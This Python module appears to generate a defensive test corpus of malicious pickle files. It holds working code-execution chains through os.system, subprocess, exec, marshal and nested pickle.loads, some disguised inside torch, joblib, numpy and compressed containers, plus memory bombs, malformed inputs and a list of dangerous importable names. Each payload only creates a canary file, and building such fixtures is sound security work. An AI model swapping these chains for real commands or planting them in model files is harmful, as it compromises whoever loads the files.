"""Every public way to make a pickle do harm, as bytes; all that they do is make a canary file."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import tarfile
import types
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = ["Evil", "bombs", "calls", "containers", "exec_of", "forms", "malformed"]


@dataclass(frozen=True)
class Evil:
    """One file: what it tries, its bytes, and the canary that loading it would leave."""

    what: str
    data: bytes
    canary: Path | None = None
    suffix: str = ".pickle"


def name(module: str, attribute: str, protocol: int = 0) -> bytes:
    """Opcodes that import one name."""
    if protocol < 4:
        return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"
    return text(module) + text(attribute) + b"\x93"


def text(value: str) -> bytes:
    """Opcodes of a text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def body(value: Any, protocol: int) -> bytes:
    """Opcodes of a plain value, without what stands around a pickle."""
    protocol = min(protocol, 3)
    data = pickle.dumps(value, protocol)
    return data[2 if protocol >= 2 else 0 : -1]


def start(protocol: int) -> bytes:
    """The first opcode of a protocol."""
    return bytes((0x80, protocol)) if protocol >= 2 else b""


def call(module: str, attribute: str, args: tuple[Any, ...], protocol: int = 0) -> bytes:
    """A pickle that calls one name."""
    return start(protocol) + name(module, attribute, protocol) + body(args, protocol) + b"R."


def run(module: str, attribute: str, args: tuple[Any, ...]) -> bytes:
    """Opcodes that call one name."""
    return name(module, attribute) + body(args, 0) + b"R"


def code_of(path: Path) -> types.CodeType:
    return compile(source_of(path), "evil", "exec")


def source_of(path: Path) -> str:
    return f"open({str(path)!r}, 'w').close()"


def calls(folder: Path) -> Iterator[Evil]:
    """A call of each name that is known to run something; canaries stand in the folder."""
    number = 0

    def canary() -> Path:
        nonlocal number
        number += 1
        return folder / f"canary{number}"

    def shell(at: Path) -> str:
        return f"touch {at}"

    for module, attribute in (
        ("os", "system"),
        ("posix", "system"),
        ("os", "popen"),
        ("subprocess", "getoutput"),
        ("subprocess", "getstatusoutput"),
    ):
        at = canary()
        yield Evil(f"{module}.{attribute}", call(module, attribute, (shell(at),)), at)
    for attribute in ("Popen", "call", "run", "check_call", "check_output"):
        at = canary()
        args = (["touch", str(at)],)
        yield Evil(f"subprocess.{attribute}", call("subprocess", attribute, args), at)
    for module, attribute in (
        ("builtins", "exec"),
        ("builtins", "eval"),
        ("bdb", "Bdb"),
        ("cProfile", "run"),
        ("profile", "run"),
        ("timeit", "main"),
        ("code", "compile_command"),
        ("numpy.testing._private.utils", "runstring"),
    ):
        at = canary()
        args = (source_of(at),)
        if attribute == "runstring":
            args = (source_of(at), {})
        if attribute == "main":
            args = (["-n", "1", "-r", "1", source_of(at)],)
        runs = attribute not in ("Bdb", "compile_command")
        made = call(module, attribute, args)
        yield Evil(f"{module}.{attribute}", made, at if runs else None)
    for module, attribute, args in (
        ("builtins", "open", ("{}", "w")),
        ("io", "open", ("{}", "w")),
        ("io", "FileIO", ("{}", "w")),
        ("codecs", "open", ("{}", "w")),
        ("logging", "FileHandler", ("{}",)),
        ("os", "mkdir", ("{}",)),
        ("os", "makedirs", ("{}",)),
        ("os", "symlink", ("/", "{}")),
        ("shutil", "copyfile", ("/etc/hostname", "{}")),
        ("sqlite3", "connect", ("{}",)),
        ("dbm.dumb", "open", ("{}", "n")),
    ):
        at = canary()
        given = tuple(part.replace("{}", str(at)) for part in args)
        at = at.with_suffix(".dir") if module == "dbm.dumb" else at
        yield Evil(f"{module}.{attribute}", call(module, attribute, given), at)
    at = canary()
    spawn = ("touch", [b"touch", str(at).encode()], {})
    yield Evil("posix.posix_spawnp", call("posix", "posix_spawnp", spawn), at)
    at = canary()
    yield Evil("os.spawnlp", call("os", "spawnlp", (0, "touch", "touch", str(at))), at)
    at = canary()
    fetched = run("builtins", "__import__", ("os",)) + text("system") + b"\x86R"
    chain = name("builtins", "getattr") + fetched
    yield Evil("getattr of __import__", chain + body((shell(at),), 0) + b"R.", at)
    at = canary()
    chain = run("operator", "attrgetter", ("system",)) + run("importlib", "import_module", ("os",))
    yield Evil("operator.attrgetter", chain + b"\x85R" + body((shell(at),), 0) + b"R.", at)
    at = canary()
    chain = run("operator", "methodcaller", ("system", shell(at)))
    chain += run("builtins", "__import__", ("os",)) + b"\x85R."
    yield Evil("operator.methodcaller", chain, at)
    at = canary()
    chain = name("functools", "partial") + name("os", "system") + body(shell(at), 0) + b"\x86R)R."
    yield Evil("functools.partial", chain, at)
    at = canary()
    chain = name("builtins", "list") + name("builtins", "map") + name("os", "system")
    yield Evil("map", chain + body([shell(at)], 0) + b"\x86R\x85R.", at)
    at = canary()
    chain = name("types", "FunctionType") + run("marshal", "loads", (marshal.dumps(code_of(at)),))
    yield Evil("marshal and types.FunctionType", chain + b"}\x86R)R.", at)
    at = canary()
    yield Evil("pickle.loads", call("pickle", "loads", (exec_of(at),)), at)
    at = canary()
    yield Evil("_pickle.loads", call("_pickle", "loads", (exec_of(at),)), at)
    at = canary()
    nested = call("pickle", "loads", (call("pickle", "loads", (exec_of(at),)),))
    yield Evil("pickle.loads in pickle.loads", nested, at)
    at = canary()
    file = folder / "nested.npy"
    file.write_bytes(npy(exec_of(at)))
    yield Evil("numpy.load", call("numpy", "load", (str(file), None, True)), at)
    at = canary()
    script = folder / "script.py"
    script.write_text(source_of(at), encoding="utf-8")
    yield Evil("runpy.run_path", call("runpy", "run_path", (str(script),)), at)
    at = canary()
    chain = name("builtins", "exec") + run("builtins", "compile", (source_of(at), "x", "exec"))
    yield Evil("exec of compile", chain + b"\x85R.", at)
    at = canary()
    chain = name("functools", "reduce") + name("builtins", "getattr") + b"("
    chain += run("builtins", "__import__", ("os",)) + text("system") + b"l\x86R"
    yield Evil("functools.reduce of getattr", chain + body((shell(at),), 0) + b"R.", at)
    at = canary()
    loaded = name("code", "InteractiveInterpreter") + b")R"
    chain = name("operator", "methodcaller") + body("runsource", 0) + body(source_of(at), 0)
    yield Evil("code.InteractiveInterpreter", chain + b"\x86R" + loaded + b"\x85R.", at)
    at = canary()
    nested = b"".join(
        (name("builtins", "exec"), name("builtins", "str"), body((source_of(at),), 0), b"R\x85R.")
    )
    yield Evil("nested reduce", nested, at)
    for module, attribute, args in (
        ("__main__", "run", ()),
        ("nt", "system", ("dir",)),
        ("pty", "spawn", ("true",)),
        ("webbrowser", "open", ("about:blank",)),
        ("code", "interact", ()),
        ("torch", "load", ("x.pt",)),
        ("torch.hub", "load", ("x", "y")),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", ("1", {}, {})),
        ("torch.utils.collect_env", "run", ("true",)),
        ("torch.serialization", "load", ("x",)),
        ("numpy.f2py.crackfortran", "myeval", ("1",)),
        ("numpy.distutils.exec_command", "exec_command", ("true",)),
        ("ctypes", "CDLL", ("libc.so.6",)),
        ("pip", "main", (["list"],)),
        ("pip._internal", "main", (["list"],)),
        ("lib2to3.pgen2.grammar", "Grammar", ()),
        ("lib2to3.pgen2.pgen", "generate_grammar", ()),
        ("idlelib.pyshell", "ModifiedInterpreter", ()),
        ("doctest", "debug_script", ("1",)),
        ("pdb", "run", ("1",)),
        ("trace", "Trace", ()),
        ("ensurepip", "_run_pip", ([],)),
        ("pydoc", "pipepager", ("x", "cat")),
        ("venv", "create", ("x",)),
        ("imp", "load_source", ("a", "b")),
        ("zipimport", "zipimporter", ("x.zip",)),
        ("shutil", "rmtree", ("/nowhere",)),
        ("socket", "create_connection", (("localhost", 9),)),
        ("urllib.request", "urlopen", ("file:///etc/hostname",)),
        ("requests.api", "get", ("file:///x",)),
        ("smtplib", "SMTP", ("localhost",)),
        ("logging.config", "listen", ()),
        ("multiprocessing.util", "spawnv_passfds", (b"x", [], [])),
        ("asyncio", "run", (None,)),
        ("uuid", "_get_command_stdout", ("true",)),
        ("_osx_support", "_read_output", ("true",)),
        ("_aix_support", "_read_cmd_output", ("true",)),
        ("distutils.spawn", "spawn", (["true"],)),
        ("commands", "getoutput", ("true",)),
        ("shelve", "open", ("x",)),
        ("dill", "loads", (b"",)),
        ("cloudpickle", "loads", (b"",)),
        ("joblib", "load", ("x",)),
        ("pandas", "read_pickle", ("x",)),
        ("sys", "exit", (1,)),
        ("sys", "setrecursionlimit", (1,)),
        ("os", "_exit", (1,)),
        ("os", "kill", (0, 0)),
        ("gc", "get_objects", ()),
        ("copyreg", "add_extension", ("os", "system", 1)),
        ("copyreg", "_reconstructor", ("os", "system", None)),
        ("copyreg", "__newobj_ex__", ()),
        ("builtins", "breakpoint", ()),
        ("builtins", "input", ()),
        ("builtins", "vars", ()),
        ("builtins", "globals", ()),
        ("builtins", "setattr", ()),
        ("builtins", "type", ("x", (), {})),
        ("builtins", "bytes", (1 << 40,)),
        ("builtins", "list", ([],)),
        ("collections", "OrderedDict", (1, 2)),
        ("collections", "OrderedDict.fromkeys", ()),
        ("torch.storage", "_load_from_bytes.__globals__", ()),
        ("torch.storage", "io.open", ("x", "w")),
        ("torch.storage", "UntypedStorage.from_file", ("x", True, 9)),
        ("numpy", "load", ("x", None, True)),
        ("numpy", "memmap", ("x", "f8", "w+")),
        ("numpy", "ndarray.tofile", ()),
        ("numpy", "fromfile", ("x",)),
        ("brian2.units.fundamentalunits", "os.system", ("true",)),
        ("omegaconf.omegaconf", "OmegaConf.register_new_resolver", ()),
        ("hydra.utils", "instantiate", ({},)),
    ):
        yield Evil(f"{module}.{attribute}", call(module, attribute, args))


def exec_of(at: Path, protocol: int = 0) -> bytes:
    """A pickle that makes a canary."""
    return call("builtins", "exec", (source_of(at),), protocol)


def forms(folder: Path) -> Iterator[Evil]:
    """One and the same call in every form that the format has for it."""
    number = 0

    def canary() -> Path:
        nonlocal number
        number += 1
        return folder / f"form{number}"

    for protocol in range(6):
        at = canary()
        yield Evil(f"protocol {protocol}", exec_of(at, protocol), at)
        at = canary()
        inner = name("builtins", "exec", protocol) + body((source_of(at),), protocol) + b"R"
        yield Evil(f"in a list, protocol {protocol}", start(protocol) + b"(" + inner + b"l.", at)
        at = canary()
        inner = name("builtins", "exec", protocol) + body((source_of(at),), protocol) + b"R"
        yield Evil(f"thrown away, protocol {protocol}", start(protocol) + inner + b"0N.", at)
    at = canary()
    yield Evil("__builtin__", call("__builtin__", "eval", (source_of(at),), 2), at)
    at = canary()
    yield Evil("INST", b"(" + body(source_of(at), 0) + b"ibuiltins\nexec\n.", at)
    at = canary()
    yield Evil("OBJ", b"(" + name("builtins", "exec") + body(source_of(at), 0) + b"o.", at)
    at = canary()
    made = b"\x80\x04" + name("io", "FileIO") + body((str(at), "w"), 2) + b"\x81."
    yield Evil("NEWOBJ", made)
    made = b"\x80\x04" + name("io", "FileIO") + body((str(at), "w"), 2) + b"}\x92."
    yield Evil("NEWOBJ_EX", made)
    at = canary()
    said = text("builtins") + b"q\x00" + text("exec") + b"q\x01" + b"00h\x00h\x01\x93"
    yield Evil("remembered names", b"\x80\x04" + said + body((source_of(at),), 2) + b"R.", at)
    at = canary()
    made = b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93" + body((source_of(at),), 2) + b"R."
    framed = made[:2] + b"\x95" + struct.pack("<Q", len(made) - 2) + made[2:]
    yield Evil("in a frame", framed, at)
    at = canary()
    made = name("builtins", "exec.__call__", 4) + body((source_of(at),), 2) + b"R."
    yield Evil("a dotted name", b"\x80\x04" + made, at)
    at = canary()
    after = exec_of(at)
    yield Evil("behind the end", b"N." + after)
    at = canary()
    state = b"}" + body("__setstate__", 0) + name("os", "system") + b"sb"
    made = name("types", "SimpleNamespace") + b")\x81" + state
    made += body(f"touch {at}", 0) + b"b."
    yield Evil("__setstate__ in a state", b"\x80\x02" + made, at)
    at = canary()
    made = name("types", "SimpleNamespace") + b")\x81" + b"N}" + body("append", 0)
    made += name("os", "system") + b"s\x86b" + body(f"touch {at}", 0) + b"a."
    yield Evil("append in a state of slots", b"\x80\x02" + made, at)
    at = canary()
    made = name("types", "SimpleNamespace") + b")\x81" + b"}" + body("extend", 0)
    made += name("os", "system") + b"sb" + b"(" + body(f"touch {at}", 0) + b"e."
    yield Evil("extend in a state", b"\x80\x02" + made)
    built = b"}" + body("__class__", 0) + name("os", "system") + b"sb."
    yield Evil("__class__ in a state", b"\x80\x02" + name("builtins", "object") + b")\x81" + built)
    built = b"}" + body("__build__", 0) + body([1], 0) + b"sb."
    yield Evil("a state for a name", name("torch", "Size") + built)
    yield Evil("a state twice", name("torch.nn.modules.linear", "Linear") + b")R}b}b.")
    yield Evil("a state for a list", b"]}b.")
    for code, opcode in (
        (b"\x82\x01.", "EXT1"),
        (b"\x83\x01\x00.", "EXT2"),
        (b"\x84\x01\x00\x00\x00.", "EXT4"),
    ):
        yield Evil(opcode, b"\x80\x02" + code)
        yield Evil(f"{opcode}, called", b"\x80\x02" + code[:-1] + body(("true",), 2) + b"R.")
    yield Evil("PERSID", b"Pcanary\n.")
    yield Evil("BINPERSID", body("canary", 0) + b"Q.")
    yield Evil("BINPERSID of a tuple", body(("storage", "x"), 0) + b"Q.")
    yield Evil("NEXT_BUFFER", b"\x80\x05\x97.")
    yield Evil("READONLY_BUFFER", b"\x80\x05\x96" + struct.pack("<Q", 1) + b"a\x98.")
    guard = name("builtins", "getattr")
    owner = name("torch._C", "_VariableFunctionsClass")
    for attribute in ("from_file", "__class__", "__subclasses__", "relu.__globals__", "load"):
        made = guard + owner + text(attribute) + b"\x86R."
        yield Evil(f"getattr of torch: {attribute}", made)
    yield Evil("getattr of text", call("builtins", "getattr", ("relu", "relu")))
    yield Evil("getattr with a default", guard + owner + text("relu") + b"N\x87R.")
    made = guard + name("torch", "Size") + text("relu") + b"\x86R."
    yield Evil("getattr of another owner", made)
    at = canary()
    storage = name("torch.storage", "_load_from_bytes") + body((exec_of(at),), 0) + b"R"
    tensor = name("torch._utils", "_rebuild_tensor_v2") + b"(" + storage
    tensor += body(0, 0) + body((1,), 0) + body((1,), 0) + b"\x89}tR"
    yield Evil("a tensor that is a pickle", b"\x80\x02" + tensor + b".")
    header = pickle.dumps({"little_endian": True}, 2)
    first = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + header
    storage = name("torch.storage", "_load_from_bytes") + body((first + exec_of(at),), 0) + b"R."
    yield Evil("a storage that turns into a pickle", b"\x80\x02" + storage)


def malformed() -> Iterator[Evil]:
    """Bytes that break the format somewhere, or use it for what it is not for."""
    frame = b"\x80\x04\x95" + struct.pack("<Q", 3)
    for what, data in (
        ("empty", b""),
        ("text", b"no pickle at all\n"),
        ("a table", b"a,b\n1,2\n"),
        ("only a protocol", b"\x80\x04"),
        ("protocol 6", b"\x80\x06N."),
        ("protocol 255", b"\x80\xffN."),
        ("several protocols", b"\x80\x04\x80\x04N."),
        ("a protocol later", b"N0\x80\x04N."),
        ("no value", b"."),
        ("a mark as value", b"(."),
        ("a mark in a tuple", b"(\x85."),
        ("a mark as key", b"}(Ns."),
        ("a mark that is remembered", b"(p0\ng0\n."),
        ("a mark that is doubled", b"(2."),
        ("a group that was never opened", b"Nt."),
        ("a value that was never remembered", b"h\x07."),
        ("a name of numbers", b"K\x01K\x02\x93."),
        ("a name of bytes", b"C\x02osC\x06system\x93."),
        ("a name that is not ASCII", "cös\nsystem\n.".encode()),
        ("a name that is not UTF-8", b"c\xff\xfe\nsystem\n."),
        ("a name with a line break", text("os\nx") + text("system") + b"\x93."),
        ("a name with an escape", text("os\x1b[2J") + text("system") + b"\x93."),
        ("a name with a blank", b"cos system\nx\n."),
        ("a name cut off", b"cos\nsystem"),
        ("a name that is empty", b"c\n\n."),
        ("a name of a million letters", b"c" + b"a" * 1_000_000 + b"\nb\n."),
        ("a text that is not UTF-8", b"X\x02\x00\x00\x00\xff\xfe."),
        ("a short text that is not UTF-8", b"\x8c\x01\xff."),
        ("a text of half a letter", b"V\\ud800\n."),
        ("a string that is not ASCII", b"U\x02\xff\xfe."),
        ("a string without quotes", b"Sabc\n."),
        ("a string with an odd escape", b"S'\\x'\n."),
        ("text cut off", b"X\x09\x00\x00\x00abc."),
        ("bytes of 2**63", b"\x8e" + struct.pack("<Q", 1 << 63) + b"a."),
        ("bytes of 2**40", b"\x8e" + struct.pack("<Q", 1 << 40) + b"a."),
        ("bytes of 4 GB", b"B" + struct.pack("<I", 0xFFFFFFFF) + b"a."),
        ("text of 2**40", b"\x8d" + struct.pack("<Q", 1 << 40) + b"a."),
        ("an array of bytes of 2**40", b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"a."),
        ("a number of 2 GB", b"\x8b" + struct.pack("<i", 0x7FFFFFFF) + b"a."),
        ("a number of negative length", b"\x8b" + struct.pack("<i", -1) + b"a."),
        ("a number of 300 bytes", b"\x8b" + struct.pack("<i", 300) + b"\x7f" * 300 + b"."),
        ("no number", b"Ia\n."),
        ("no float", b"Fa\n."),
        ("a memo entry below 0", b"Np-1\n."),
        ("a memo entry of 4 billion", b"Nr\xff\xff\xff\xff."),
        ("a memo entry of 10**30", b"Np1" + b"0" * 30 + b"\n."),
        ("two frames, one in the other", frame + b"\x95" + struct.pack("<Q", 1) + b"N."),
        ("a frame twice", frame + frame[2:] + b"NN."),
        ("a frame past the end", b"\x80\x04\x95" + struct.pack("<Q", 99) + b"N."),
        ("a frame of 2**64", b"\x80\x04\x95" + b"\xff" * 8 + b"N."),
        ("a frame that ends in a step", b"\x80\x04\x95" + struct.pack("<Q", 3) + b"X\2\0\0\0ab."),
        ("a frame cut off", b"\x80\x04\x95\x01"),
        ("a key that is a list", b"}]Ns."),
        ("a key without a value", b"}(Nu."),
        ("items of a number", b"K\x01(NNu."),
        ("elements of a number", b"K\x01(Ne."),
        ("elements of a set that are lists", b"\x8f(]\x90."),
        ("a call of a number", b"K\x01)R."),
        ("a call without a tuple", name("torch", "Size") + b"]R."),
        ("a call of what a call gave", name("torch", "Size") + b")R)R."),
        ("a call of a text", text("os.system") + b")R."),
        ("an unknown step", b"\xf0."),
        ("a list that holds itself", b"]p0\ng0\na."),
        ("a dictionary that holds itself", b"}p0\nNg0\ns."),
        ("nothing after a value", b"N"),
        ("two pickles", b"N.N."),
        ("noughts", bytes(1000)),
        ("all bytes", bytes(range(256))),
    ):
        yield Evil(what, data)


def bombs() -> Iterator[Evil]:
    """Small or large files that take much time or memory from a reader that lets them."""
    doubled = b"".join(b"(h%ch%cl\x94" % (n, n) for n in range(100))
    yield Evil("a billion laughs of lists", b"\x80\x04]\x94" + doubled + b".")
    doubled = b"".join(b"h%ch%c\x86\x94" % (n, n) for n in range(100))
    yield Evil("a billion laughs of tuples", b"\x80\x04)\x94" + doubled + b".")
    yield Evil("a billion laughs as a key", b"\x80\x04}(" + b")\x94" + doubled + b"Nu.")
    yield Evil("a billion laughs in a set", b"\x80\x04\x8f(" + b")\x94" + doubled + b"\x90.")
    doubled = b"".join(b"}(Kah%cKbh%cu\x94" % (n, n) for n in range(100))
    yield Evil("a billion laughs of dictionaries", b"\x80\x04}\x94" + doubled + b".")
    million = 1_000_000
    yield Evil("a million lists", b"]" * million + b"a" * (million - 1) + b".")
    yield Evil("a million tuples", b")" + b"\x85" * million + b".")
    yield Evil("a million groups", b"(" * million + b"t" * million + b".")
    yield Evil(
        "half a million groups", b"(" * (million // 2 - 9) + b"t" * (million // 2 - 9) + b"."
    )
    deep = b"h\x00" * 300_000 + b"N" + b"\x85R" * 300_000
    yield Evil("calls in calls", name("torch.nn.modules.linear", "Linear") + b"p0\n" + deep + b".")
    yield Evil("memo entries", b"N" + b"\x94" * (2 * million) + b".")
    yield Evil("sets", b"(" + b"\x8f" * (2 * million) + b"t.")
    yield Evil("marks", b"(" * (2 * million) + b"N.")
    yield Evil("numbers", b"(" + b"K\x01" * (2 * million) + b"t.")
    yield Evil("a number of 10 MB of digits", b"I" + b"9" * (10 * million) + b"\n.")
    yield Evil("a long number of 10 MB of digits", b"L" + b"9" * (10 * million) + b"L\n.")
    yield Evil(
        "a number of 10 MB",
        b"\x8b" + struct.pack("<i", 10 * million) + b"\x7f" * 10 * million + b".",
    )
    yield Evil("a float of 10 MB of digits", b"F" + b"9" * (10 * million) + b"\n]b.")
    wide = body("a" * million, 2) + b"X" + struct.pack("<I", 4) + "\U0001f600".encode()
    yield Evil("text", b"(" + wide * 100 + b"t.")
    encode = name("_codecs", "encode") + b"p77\n" + body("é" * million, 2) + body("latin1", 2)
    again = b"hMh\x09R0"
    made = b"\x80\x02" + encode + b"\x86q\x090" + again * 100_000 + b"N."
    yield Evil("text encoded again and again", made)
    pairs = b"(" + b"(NNt" * 10_000 + b"l\x85q\x01"
    made = b"\x80\x02" + name("collections", "OrderedDict") + b"q\x00" + pairs + b"0"
    yield Evil("a dictionary made again and again", made + b"h\x00h\x01R" * 100_000 + b".")
    yield Evil("128 MB and one byte", b"B" + struct.pack("<I", 1 << 27) + bytes(1 << 27) + b".")


def npy(pickled: bytes, shape: tuple[int, ...] = (1,)) -> bytes:
    """A `.npy` of objects around a pickle."""
    said = f"{{'descr': '|O', 'fortran_order': False, 'shape': {shape!r}, }}"
    header = said.ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickled


def raw_npy(header: bytes, content: bytes = b"") -> bytes:
    """A `.npy` with any header."""
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content


def zipped(members: dict[str, bytes]) -> bytes:
    """A zip of some members, stored."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as out:
        for member, data in members.items():
            out.writestr(member, data)
    return made.getvalue()


def containers(folder: Path) -> Iterator[Evil]:
    """Files of torch, joblib and numpy around a malicious pickle, and damaged ones."""
    at = folder / "inside"
    evil = exec_of(at)
    torch_zip = {"archive/data.pkl": evil, "archive/version": b"3\n", "archive/data/0": bytes(8)}
    yield Evil("torch, zip", zipped(torch_zip), suffix=".pt")
    yield Evil("torch, zip, called a pickle", zipped(torch_zip))
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2), evil]
    yield Evil("torch, older form", b"".join(parts), suffix=".pt")
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as out:
        for member in ("storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(member)
            entry.size = len(evil)
            out.addfile(entry, io.BytesIO(evil))
    yield Evil("torch, tar", tar.getvalue(), suffix=".pt")
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}b"
    job = b"\x80\x03" + wrapper + bytes(64) + evil
    yield Evil("joblib", job, suffix=".joblib")
    for kind, packed in (
        ("zlib", zlib.compress(evil)),
        ("gzip", gzip.compress(evil)),
        ("bzip2", bz2.compress(evil)),
        ("xz", lzma.compress(evil)),
        ("lzma", lzma.compress(evil, format=lzma.FORMAT_ALONE)),
    ):
        yield Evil(f"joblib, {kind}", packed, suffix=".joblib")
    array = npy(evil)
    yield Evil("npy", array, suffix=".npy")
    yield Evil("npz", zipped({"spikes.npy": array}), suffix=".npz")
    yield Evil("npz in a zip", zipped({"a.npz": zipped({"spikes.npy": array})}), suffix=".npz")
    yield Evil("npz of a pickle", zipped({"spikes.npy": evil}), suffix=".npz")
    yield Evil("npy of another object", npy(b"]."), suffix=".npy")
    yield Evil("npy, empty", b"\x93NUMPY", suffix=".npy")
    many = b"{'descr': '<f8', 'fortran_order': 0, 'shape': (%s)}" % (b"1," * 40)
    for what, header, content in (
        ("no header", b"", b""),
        ("a call in its header", b"{'descr': __import__('os'), 'shape': ()}", b""),
        ("a lambda in its header", b"(lambda: 1)()", b""),
        ("brackets", b"(" * 9000, b""),
        ("a long header", b" " * 20_000, b""),
        ("fields", b"{'descr': [('a', 'f8')], 'fortran_order': False, 'shape': (1,)}", bytes(8)),
        ("a type of numpy", b"{'descr': 'V8', 'fortran_order': False, 'shape': (1,)}", bytes(8)),
        ("no type", b"{'descr': ',,', 'fortran_order': False, 'shape': (1,)}", bytes(8)),
        ("too few numbers", b"{'descr': '<f8', 'fortran_order': False, 'shape': (2,)}", bytes(8)),
        (
            "2**60 numbers",
            b"{'descr': '<f8', 'fortran_order': False, 'shape': (1152921504606846976,)}",
            bytes(8),
        ),
        (
            "2**60 empty rows",
            b"{'descr': '<f8', 'fortran_order': 0, 'shape': (%d, 0)}" % 2**60,
            b"",
        ),
        ("a shape below 0", b"{'descr': '<f8', 'fortran_order': False, 'shape': (-1,)}", bytes(8)),
        ("40 dimensions", many, bytes(8)),
        ("a shape of text", b"{'descr': '<f8', 'fortran_order': False, 'shape': ('a',)}", bytes(8)),
        ("no shape", b"{'descr': '<f8', 'fortran_order': False, 'shape': 1}", bytes(8)),
    ):
        yield Evil(f"npy: {what}", raw_npy(header, content), suffix=".npy")
